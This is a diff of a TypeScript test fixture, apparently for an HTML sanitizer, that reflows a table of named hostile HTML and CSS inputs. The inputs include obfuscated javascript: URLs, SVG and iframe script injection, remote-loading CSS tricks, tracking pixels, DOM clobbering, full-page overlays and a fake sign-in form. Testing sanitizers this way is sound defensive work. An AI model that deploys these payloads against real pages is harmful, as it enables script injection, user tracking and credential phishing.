@@ -15,31 +15,41 @@ export const HOSTILE: Record<string, string> = {
     'svg image': `<svg><image xlink:href="${T}/svg.png" href="${T}/svg2.png"/></svg>`,
     'svg animate': `<svg><a><animate attributeName=href values="java&#9;script:${RUN}"/><text>x</text></a></svg>`,
     'svg set': `<svg><set attributeName="onload" to="${RUN}"/></svg>`,
-    'data with tabs, nul and entities': `<a href="da&#9;ta:text/html,<script>${RUN}</script>">x</a><a href="java\u0000script:${RUN}">y</a>`
+    'data with tabs, nul and entities': `<a href="da&#9;ta:text/html,<script>${RUN}</script>">x</a><a `
+        + `href="java\u0000script:${RUN}">y</a>`
         + `<a href="jav&#x0A;ascript:${RUN}">z</a>`,
     area: `<img src="${T}/map.png" usemap="#m"><map name="m"><area shape="default" href="javascript:${RUN}"></map>`,
-    'css escapes': `<p style="background:\\75rl(${T}/escape)">x</p><p style="background-image:u\\72l('${T}/escape2')">x</p>`,
-    'css variables': `<style>p{--x:url(${T}/var)}</style><p style="--y:url(${T}/var2);background:var(--x),var(--y)">x</p>`,
-    'css import': `<style>@import url(${T}/import.css);@import "${T}/import2.css";@im\\70ort url(${T}/import3.css);</style>x`,
+    'css escapes': `<p style="background:\\75rl(${T}/escape)">x</p>`
+        + `<p style="background-image:u\\72l('${T}/escape2')">x</p>`,
+    'css variables': `<style>p{--x:url(${T}/var)}</style>`
+        + `<p style="--y:url(${T}/var2);background:var(--x),var(--y)">x</p>`,
+    'css import': `<style>@import url(${T}/import.css);@import "${T}/import2.css";@im\\70ort `
+        + `url(${T}/import3.css);</style>x`,
     'css font': `<style>@font-face{font-family:f;src:url(${T}/font)}body{font-family:f}</style>x`,
     'css images': `<style>body{background:url(${T}/a);list-style:url("${T}/b");border-image:url('${T}/c');cursor:url(${T}/d),auto}`
-        + `p::before{content:url(${T}/e)}p{background:image-set("${T}/f" 1x);filter:url(${T}/g#x);mask:url(${T}/h)}</style><p>x</p>`,
+        + `p::before{content:url(${T}/e)}p{background:image-set("${T}/f" `
+        + `1x);filter:url(${T}/g#x);mask:url(${T}/h)}</style><p>x</p>`,
     'css image in an attribute': `<p style='background:image-set("${T}/set" 1x);list-style-image:url(${T}/li)'>x</p>`,
     base: `<base href="${T}/"><img src="relative.png"><a href="relative">x</a>`,
     refresh: `<meta http-equiv="refresh" content="0;url=${T}/refresh">`,
     'refresh by script': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
-    form: `<form action="${T}/form" id=f><input name=password autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
-    prefetch: `<link rel="dns-prefetch" href="//tracker.example"><link rel=preconnect href="${T}"><link rel=prefetch href="${T}/pre">`
+    form: `<form action="${T}/form" id=f><input name=password autofocus onfocus="${RUN}"><button>Sign in</button>`
+        + `</form>`,
+    prefetch: `<link rel="dns-prefetch" href="//tracker.example"><link rel=preconnect href="${T}"><link `
+        + `rel=prefetch href="${T}/pre">`
         + `<link rel=stylesheet href="${T}/style.css"><link rel=icon href="${T}/icon">`,
-    srcset: `<img srcset="${T}/1x.png 1x, ${T}/2x.png 2x"><picture><source srcset="${T}/source"><img src="${T}/img"></picture>`,
+    srcset: `<img srcset="${T}/1x.png 1x, ${T}/2x.png 2x"><picture><source srcset="${T}/source"><img `
+        + `src="${T}/img"></picture>`,
     poster: `<video poster="${T}/poster" src="${T}/video" autoplay></video><audio src="${T}/audio" autoplay></audio>`,
     picture: `<img src="${T}/open.gif?who=anna" width=1 height=1><input type=image src="${T}/input">`,
     background: `<table background="${T}/table"><tr><td background="${T}/cell">x</td></tr></table>`,
-    frames: `<iframe src="${T}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object data="${T}/object"></object>`
+    frames: `<iframe src="${T}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><object `
+        + `data="${T}/object"></object>`
         + `<embed src="${T}/embed"><frameset><frame src="${T}/frame2"></frameset>`,
     cover: '<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red;width:99999px;height:99999px">x</div>'
         + '<style>html,body{position:fixed;top:-5000px;left:-5000px;width:100000px;height:100000px;z-index:2147483647;background:red}</style>',
-    'cover in a dialog': '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Sign in</dialog><div popover=manual>x</div>',
+    'cover in a dialog': '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Sign in</dialog>'
+        + '<div popover=manual>x</div>',
     growth: '<div style="height:calc(100vh + 50px)">x</div>',
     'end of the document': `</body></html><script>${RUN}</script><img src="${T}/after">`,
     'end of the style': `<style></style></head><script>${RUN}</script>`,
@@ -48,7 +58,8 @@ export const HOSTILE: Record<string, string> = {
     clobbering: `<img name=body><img id=documentElement><form id=querySelectorAll></form><img name=contentDocument>x`,
     'named elements': `<a id=pwned href="${T}/named">x</a>`,
     ping: `<a href="https://example.com/" ping="${T}/ping">x</a>`,
-    'worklets and templates': `<template><script>${RUN}</script></template><template shadowrootmode=open><img src=${T}/shadow></template>`,
+    'worklets and templates': `<template><script>${RUN}</script></template><template shadowrootmode=open><img `
+        + `src=${T}/shadow></template>`,
     isindex: `<isindex action="javascript:${RUN}" type=image><keygen autofocus onfocus="${RUN}">`,
     'xml stylesheet': `<?xml-stylesheet href="${T}/xml.css"?><![CDATA[<script>${RUN}</script>]]>x`,
     deep: `${'<div>'.repeat(3_000)}<img src="${T}/deep" onerror="${RUN}">`,
